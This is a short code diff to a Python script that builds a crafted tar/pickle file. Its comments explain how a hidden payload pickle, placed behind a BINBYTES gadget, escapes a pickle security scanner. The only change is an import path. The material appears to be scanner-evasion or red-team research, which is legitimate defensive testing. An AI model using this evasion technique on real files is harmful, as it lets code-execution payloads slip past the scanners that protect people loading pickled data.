@@ -4,7 +4,7 @@
 # pickle in the first header's name field, numel, numel*4 raw bytes (the rest of the header and
 # a BINBYTES gadget), then the views pickle = payload. The scanner notes the escaping link (invalid)
 # but its walkers (from offset 0 and over member data) are swallowed by the gadget: no global named.
-import sys, os, struct; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from tarlib import *
+import sys, os, struct; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3')); from tarlib import *
 out = sys.argv[1]; h = len(sys.argv) > 2; fd = sys.argv[3] if len(sys.argv) > 3 else '3'
 pay = payload(h)
 A = b'I1\n.'
